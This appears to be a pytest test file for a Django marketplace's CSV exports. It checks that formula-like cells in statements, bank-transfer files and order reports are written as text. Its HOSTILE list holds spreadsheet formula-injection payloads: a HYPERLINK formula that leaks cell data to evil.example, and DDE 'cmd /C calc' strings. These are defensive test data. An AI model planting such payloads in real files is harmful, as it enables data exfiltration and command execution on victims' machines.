"""Every CSV the site writes is safe to open in a spreadsheet: a cell that would start a formula is written as text,
in the statements, the bank-transfer file and the insights files alike, and nothing writes CSV any other way."""

import ast
import csv
import io
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone

from ledger.models import PayoutAccount
from ledger.services import ledger_add_correction, settlement_run
from ledger.statements import bank_transfer_file, statement_csv
from marketplace.spreadsheets import safe_cell
from tests.factories import make_artisan

PROJECT = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200f=1+1",  # a right-to-left mark in front, as Arabic text may carry
    "\u200b@SUM(A1)",
    "\uff1d1+1",  # the full-width equals sign
    "\uff0bcmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["-1.000", "12.340", "0", "-7", "Aisha Al Harthi", "عائشة بنت سعيد", "OM810180000001299123456", "", "a=b", "1-2"],
)
def test_plain_text_and_numbers_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-1.000"), -3, 2.5, None])
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE[:4])
def test_the_bank_transfer_file_makes_an_account_holders_formula_text(hostile):
    # Given an artisan whose bank account holder's name is a formula
    artisan = make_artisan(registry_number="TS-DAK-00901", name_en="Aisha")
    PayoutAccount.objects.create(
        artisan=artisan, account_holder=hostile, bank="Bank Muscat", iban="OM810180000001299123456"
    )
    ledger_add_correction(artisan=artisan, amount=Decimal("11.106"), memo="Sales", key="k1")
    settlement = settlement_run(period_end=timezone.now() + timedelta(seconds=1), reference="S-1")
    # When the authority downloads the bank-transfer file
    transfer = rows(bank_transfer_file(settlement))[1]
    # Then the name is there, as text, and the amount stays a number
    assert transfer[1] == "'" + hostile
    assert transfer[3] == "11.106"


@pytest.mark.django_db
@pytest.mark.parametrize("hostile", HOSTILE[:4])
def test_a_statements_memo_is_written_as_text(hostile):
    artisan = make_artisan(registry_number="TS-DAK-00902", name_en="Aisha")
    ledger_add_correction(artisan=artisan, amount=Decimal("-1.000"), memo=hostile, key="k1")
    ledger_add_correction(artisan=artisan, amount=Decimal("5.000"), memo="Sales", key="k2")
    settlement = settlement_run(period_end=timezone.now() + timedelta(seconds=1), reference="S-1")
    lines = rows(statement_csv(settlement.statements.get(artisan=artisan)))
    memos = {line[3]: line[4] for line in lines[1:-1]}
    assert memos["'" + hostile] == "-1.000"  # the memo made text; the negative amount still a number
    assert lines[-1][-1] == "4.000"


def _calls_to(tree: ast.AST, names: set[str]) -> list[int]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            function = node.func
            name = function.attr if isinstance(function, ast.Attribute) else getattr(function, "id", "")
            if name in names:
                found.append(node.lineno)
    return found


def test_no_code_writes_csv_except_through_the_safe_writer():
    """A new CSV export must use `marketplace.spreadsheets.safe_csv_writer` (or a class built on it)."""
    writers = {"writer", "DictWriter", "UnicodeCSVWriter"}
    offenders = []
    for path in PROJECT.rglob("*.py"):
        relative = path.relative_to(PROJECT)
        if relative.parts[0] in {".venv", "tests", "bench", "node_modules"} or relative.as_posix() == (
            "marketplace/spreadsheets.py"
        ):
            continue
        source = path.read_text(encoding="utf-8")
        if "csv" not in source:
            continue
        tree = ast.parse(source)
        imports_csv = any(
            isinstance(node, ast.Import | ast.ImportFrom)
            and any(alias.name in {"csv", "UnicodeCSVWriter"} for alias in node.names)
            or isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            for node in ast.walk(tree)
        )
        if imports_csv and (lines := _calls_to(tree, writers)):
            offenders.append(f"{relative}:{lines}")
    assert not offenders, f"CSV written without safe_csv_writer: {offenders}"


@pytest.fixture
def order_by_a_hostile_buyer(buyer, two_artisans_products):
    """A paid order whose buyer typed a formula as their name, on their account and in the shipping address."""
    from oscar.core.loading import get_model

    from payments.models import Payment
    from tests.factories import UserFactory

    account = UserFactory(first_name=HOSTILE[0], last_name="")
    buyer.client.force_login(account)
    buyer.add(two_artisans_products[0])
    buyer.fill_checkout()
    buyer.place_order()
    payment = Payment.objects.get()
    buyer.pay(payment)
    buyer.come_back(payment)
    order = get_model("order", "Order").objects.get()
    get_model("order", "ShippingAddress").objects.filter(pk=order.shipping_address_id).update(first_name=HOSTILE[1])
    return order


@pytest.fixture
def order_desk_client(db):
    from django.test import Client

    from payments.roles import ORDER_DESK_GROUP
    from tests.factories import make_staff

    client = Client()
    client.force_login(make_staff(ORDER_DESK_GROUP))
    return client


@pytest.mark.django_db
def test_oscars_order_export_makes_the_buyers_names_text(order_by_a_hostile_buyer, order_desk_client):
    response = order_desk_client.get("/en/shop/dashboard/orders/", {"response_format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    assert "'" + HOSTILE[1] in text
    assert not any(cell.startswith("+") for row in rows(text) for cell in row)


@pytest.mark.django_db
def test_oscars_order_report_makes_the_buyers_names_text(order_by_a_hostile_buyer, order_desk_client):
    today = timezone.localdate().isoformat()
    response = order_desk_client.get(
        "/en/shop/dashboard/reports/",
        {"report_type": "order_report", "date_from": today, "date_to": today, "download": "true"},
    )
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    names = [row[1] for row in rows(text)[1:]]
    assert names == ["'" + HOSTILE[0]]
